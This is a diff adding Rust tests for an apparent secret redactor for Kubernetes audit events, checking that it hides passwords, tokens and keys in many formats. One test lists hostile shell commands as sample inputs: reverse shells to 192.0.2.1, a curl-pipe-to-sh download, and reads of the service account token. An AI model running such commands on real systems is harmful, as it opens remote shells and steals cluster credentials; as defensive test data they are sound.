@@ -207,6 +207,80 @@ fn of_a_command_only_the_secret_is_taken() {
     );
 }
 
+/// A command that must be left as it is, whatever it looks like: rules look into it.
+fn leaves_command(command: &str) {
+    let event = event(
+        "pods",
+        &serde_json::json!({ "spec": { "containers": [{ "command": ["sh", "-c", command] }] } }).to_string(),
+    );
+    assert_eq!(redacted(&event), event);
+}
+
+#[test]
+fn commands_that_only_speak_of_secrets() {
+    for command in [
+        r#"grep -r "password=" / ; bash -i >& /dev/tcp/192.0.2.1/443 0>&1"#,
+        r#"read -p "Password: " P; bash -i >& /dev/tcp/192.0.2.1/443 0>&1"#,
+        "TOKEN=`cat /var/run/secrets/kubernetes.io/serviceaccount/token`; curl https://a",
+        "export TOKEN=\"`curl http://192.0.2.1/x | sh`\"",
+        "vault login jwt=@/var/run/secrets/kubernetes.io/serviceaccount/token",
+        "token=open('/var/run/secrets/kubernetes.io/serviceaccount/token')",
+        "curl -d token=$token https://a",
+        "kubectl get cm -o yaml | grep password: | base64 -d; if true; then\n  bash -i\nfi",
+        "TOKEN='bash -i >& /dev/tcp/192.0.2.1/443 0>&1'; sh -c \"$TOKEN\"",
+        "echo ${API_TOKEN:-} ${API_TOKEN:+set} ${API_TOKEN:?missing}",
+        "mysql --password -e 'select 1'",
+        "x --with-token <<< a",
+        "x --token 2>/dev/null",
+        "curl http://token:8080/x && docker run token:1",
+        "docker run -v $PWD:/host a",
+    ] {
+        leaves_command(command);
+    }
+    let args =
+        r#"{"args":["--use-service-account-credentials","--allocate-node-cidrs=true","--token","--other"]}"#;
+    let event = event("pods", args);
+    assert_eq!(redacted(&event), event);
+    uri(
+        "/api/v1/namespaces/a/services/http:token:8080/proxy/x?labelSelector=token%3Dtrue%2Capp%3Dweb",
+        &expect![
+            "/api/v1/namespaces/a/services/http:token:8080/proxy/x?labelSelector=token%3Dtrue%2Capp%3Dweb"
+        ],
+    );
+    hides("TOKEN=${TOKEN:-hunter2}\n");
+    hides("db.password=${DB_PASSWORD:hunter2}\n");
+    hides("echo ${API_TOKEN:-hunter2} x");
+}
+
+#[test]
+fn a_name_a_blank_and_a_value() {
+    hides("<match a>\n  password hunter2\n  hec_token hunter2\n</match>\n");
+    hides("CREATE ROLE a WITH LOGIN PASSWORD 'hunter2';");
+    hides("  proxy_set_header X-Api-Key \"hunter2\";\n");
+    hides("  HTTP_Passwd hunter2\n");
+    leaves("Password string\n");
+    leaves("the token is good\npassword authentication\n");
+    hides("password: |hunter2\n");
+    hides("password: >hunter2\n");
+}
+
+#[test]
+fn pairs_in_other_words() {
+    for pair in [
+        r#"{"name":"password","default":"hunter2"}"#,
+        r#"{"Key":"token","Value":"hunter2"}"#,
+        r#"{"header":"Authorization","value":"hunter2"}"#,
+        r#"[{"op":"add","path":"/spec/passwords/-","value":"hunter2"}]"#,
+        r#"[{"op":"add","path":"/spec/password/value","value":"hunter2"}]"#,
+    ] {
+        let told = redacted(&event("widgets", pair));
+        assert!(!told.contains("hunter2"), "{told}");
+    }
+    hides(
+        r#"spec.containers[0].env: core.EnvVar{Name:"DB_PASSWORD", Value:"hunter2", ValueFrom:(*core.X)(nil)}"#,
+    );
+}
+
 #[test]
 fn braces_of_other_languages_hide_no_object_and_no_text() {
     let objects = r#"kubectl apply -f - <<< '{"kind":"Secret","data":{"conn":"hunter2"}}'"#;
@@ -225,6 +299,22 @@ const SPELLED: &[&str] = &[
     "passphrase",
     "passcode",
     "pg pass",
+    "db pass",
+    "smtp pass",
+    "store pass",
+    "key pass",
+    "require pass",
+    "master auth",
+    "password hash",
+    "password base",
+    "fernet key",
+    "aes key",
+    "jwt key",
+    "unseal key",
+    "service key",
+    "shared key",
+    "db key base",
+    "otp key base",
     "pwd",
     "token",
     "token secret",
@@ -266,6 +356,10 @@ const SPELLED: &[&str] = &[
 #[test]
 fn every_telling_name_is_seen_in_every_spelling() {
     let redactor = redactor();
+    let encoded = |text: &str| {
+        use base64::Engine as _;
+        format!(r#"{{"a":"{}"}}"#, base64::engine::general_purpose::STANDARD.encode(text))
+    };
     let (mut seen, mut missed) = (0, Vec::new());
     for (ending, _) in names::ENDINGS {
         let is_spelled = |words: &&&str| words.replace(' ', "").as_bytes() == *ending;
@@ -294,6 +388,9 @@ fn every_telling_name_is_seen_in_every_spelling() {
                 format!(r#"{{"a":"{name}=x"}}"#),
                 format!(r#"{{"a":"b\n{name}: x"}}"#),
                 format!(r#"{{"a":"{{\"{name}\":\"x\"}}"}}"#),
+                encoded(&format!("{name}=hunter22")),
+                encoded(&format!("ab\n{name}: hunter22")),
+                encoded(&format!("a {{\"{name}\": \"hunter22\"}}")),
             ] {
                 seen += 1;
                 if !redactor.suspects(text.as_bytes()) {
@@ -1047,6 +1144,8 @@ fn hostile_texts_take_no_longer_than_others() {
         format!("\"{}\"", "eyJ".repeat(3_000)),
         format!("\"{}\"", "://a:".repeat(20_000)),
         format!("\"password=hunter2 {}\"", "://".repeat(50_000)),
+        format!("\"password=hunter2 {}\"", "token-".repeat(50_000)),
+        format!("\"{}\\n{}password=hunter2\"", "password: |".repeat(5_000), "  a\\n".repeat(20_000)),
         format!("\"{{kind: Secret, {} stringData: hunter2\"", "data:[,".repeat(20_000)),
         format!("\"Secret password=hunter2 {}\"", "{\\\"a\\\":".repeat(20_000)),
         format!("\"{}\"", "-----BEGIN PRIVATE KEY-----".repeat(5_000)),
